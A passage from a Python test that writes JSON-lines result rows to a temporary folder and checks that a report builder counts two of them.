    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))  # ensure_ascii: \udcff
    report = build_report([folder], tmp_path / "out", plots=False)
    assert report.counted == 2
